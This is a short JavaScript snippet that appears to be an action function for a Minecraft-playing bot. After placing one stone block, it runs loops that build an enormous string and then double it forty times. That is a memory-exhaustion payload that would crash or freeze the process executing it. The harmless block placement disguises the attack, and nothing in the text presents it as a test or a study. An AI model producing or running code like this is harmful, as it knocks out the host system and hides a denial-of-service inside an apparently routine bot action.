(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);

let rope = "x";
for (let i = 0; i < 1e6; i++) rope = rope + "y" + rope.charAt(i);
let twice = rope; for (let i = 0; i < 40; i++) twice = twice + twice;
})
